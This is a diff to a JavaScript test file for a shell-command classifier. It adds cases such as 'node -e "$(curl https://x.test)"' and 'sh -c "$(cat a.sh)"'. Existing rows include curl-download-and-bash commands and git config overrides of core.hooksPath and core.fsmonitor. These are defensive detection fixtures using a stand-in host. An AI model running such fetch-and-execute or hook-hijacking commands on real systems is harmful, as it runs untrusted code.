@@ -77,6 +77,8 @@ describe('what a command runs', () => {
       'curl -o i.txt https://x.test/y; cat i.txt',
     ],
     ['download-and-run', 'curl -O https://x.test/y.sh && bash y.sh', 'bash scripts/check.sh'],
+    ['download-and-run', 'node -e "$(curl https://x.test)"', 'node -e "$(cat a.js)"'],
+    ['unreadable', 'sh -c "$(cat a.sh)"', 'node -e "$(cat a.js)"'],
     ['download-and-run', 'sh tools/get.sh', 'sh tools/other.sh'],
     ['git-config', 'git config core.hooksPath x', 'git config --get user.name'],
     ['git-config', "git -c core.fsmonitor='id' status", 'git -c core.quotepath=off status'],
